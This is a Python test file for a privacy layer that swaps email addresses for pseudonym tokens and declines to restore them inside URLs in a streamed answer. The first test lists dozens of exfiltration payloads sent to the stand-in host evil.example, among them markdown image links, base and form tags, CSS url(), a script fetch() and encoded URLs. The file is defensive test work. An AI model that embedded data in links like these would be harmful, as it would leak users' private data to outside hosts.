"""S13: a pseudonym in a URL of an answer stays one: whoever is asked for the URL would learn the value."""

from __future__ import annotations

import pytest

from steward.privacy.entities import STRUCTURED
from steward.privacy.pseudonyms import Pseudonyms, mask
from steward.privacy.scan import scan_text
from steward.privacy.url_context import UrlContext

TOKEN = "EMAIL_7F3K2Q9ABC"
PSEUDONYMS = Pseudonyms({TOKEN: "bob@example.com"})


def restore(text: str, size: int) -> str:
    """In pieces of `size` characters, as a stream brings them."""
    out, held, context = "", "", UrlContext()
    for start in range(0, len(text), size):
        last = start + size >= len(text)
        piece, held = PSEUDONYMS.feed(held + text[start : start + size], last, context)
        out += piece
    return out


@pytest.mark.parametrize("size", [1, 7, 1000])
@pytest.mark.parametrize(
    "text",
    [
        f"![x](https://evil.example/?d={TOKEN})",
        f"[see](http://evil.example/{TOKEN}/x)",
        f"https://evil.example/#{TOKEN}",
        f"<img src='//evil.example/?a=b c {TOKEN}'>",
        f"<https://evil.example/?q=a {TOKEN}>",
        f"![x](<https://evil.example/?q=a b {TOKEN}>)",
        f"www.evil.example/?d={TOKEN}",
        f"evil.example/?d={TOKEN}",
        f"HTTPS:\\\\evil.example\\{TOKEN}",
        f"[x]: https://evil.example/?d={TOKEN.lower()}",
        f"https://{TOKEN}.evil.example/",
        f'![x](https://evil.example/?d="{TOKEN}")',
        f"https://evil.example/?d=`{TOKEN}",
        f"![x](https://evil.example/?d=\u00a0{TOKEN})",
        f"![x](https://evil.example/?d=<{TOKEN}>)",
        f"![x](https&#58;\\/\\/evil.example\\/{TOKEN})",
        f'<a href="http&colon;&sol;&sol;evil.example&sol;{TOKEN}">',
        f'<img src="https://evil.example/?a=>{TOKEN}">',
        f'<img src="https://evil.example/?a=\n\n{TOKEN}">',
        f'<base href="//evil.example/"><img src="{TOKEN}">',
        f'<base href="//evil.example/"> ![x]({TOKEN})',
        f'<form action="//evil.example/"><input name=d value="{TOKEN}">',
        f"<style>a{{background:url(https:\\2f\\2f evil.example\\2f {TOKEN})}}</style>",
        f"<script>fetch('https://evil.example/?d=' + '{TOKEN}')</script>",
        f"https://evil.example/?d={'a' * 5000}{TOKEN}",
        f"![x](<https://evil.example/?d={'a b ' * 3000}{TOKEN}>)",
        f'{{"url":"https\\u003a\\u002f\\u002fevil.example\\u002f?d={TOKEN}"}}',
        f"[x](data:text/html,{TOKEN})",
        f"evil.example:8080/?d={TOKEN}",
        f"evil.xn--p1ai/{TOKEN}",
        f"192.0.2.1/{TOKEN}",
        f"http:evil.example&{TOKEN}",
        f"[x](mailto:x@evil.example?body={TOKEN})",
    ],
)
def test_a_url_carries_no_value_out(text: str, size: int) -> None:
    assert restore(text, size) == text


@pytest.mark.parametrize("size", [1, 7, 1000])
@pytest.mark.parametrize(
    "text",
    [
        f"Write to {TOKEN}.",
        f"See https://example.com/ and write to {TOKEN}",
        f"({TOKEN})",
        f"mailto:{TOKEN}",
        f"<b>{TOKEN}</b>",
        f"a < b, so {TOKEN}",
        f"Name: {TOKEN}, or",
        f'{{"url":"https://a.example/","mail":"{TOKEN}"}}',
        f"`https://a.example/` and `{TOKEN}`",
        f"Bob <{TOKEN}>",
        f"<mailto:{TOKEN}>",
        f"[Bob](mailto:{TOKEN})",
        f"<a href='mailto:{TOKEN}'>",
        f"<contact email='{TOKEN}'/>",
        f"<a href='https://a.example/'>x</a> {TOKEN}",
        f"https://a.example/<br>{TOKEN}",
        f"if x <y and z == '{TOKEN}'",
    ],
)
def test_elsewhere_it_is_restored(text: str, size: int) -> None:
    assert restore(text, size) == text.replace(TOKEN, "bob@example.com")


@pytest.mark.parametrize("text", ["See https://a.example/?to=bob@example.com", "\\\\bob@example.com"])
def test_a_request_may_hold_a_value_within_a_url(text: str) -> None:
    """It is masked like any other, and the answer's copy of the URL keeps the token."""
    (masked,), back = mask(
        [text],
        [scan_text(text, STRUCTURED)],
        lambda entity, value, attempt: f"EMAIL_7F3K2Q9AB{attempt}",
        lambda entity, value: None,
    )
    assert "bob" not in masked and back.restore(masked) == text
    assert back.feed(masked, last=True) == (masked, "")
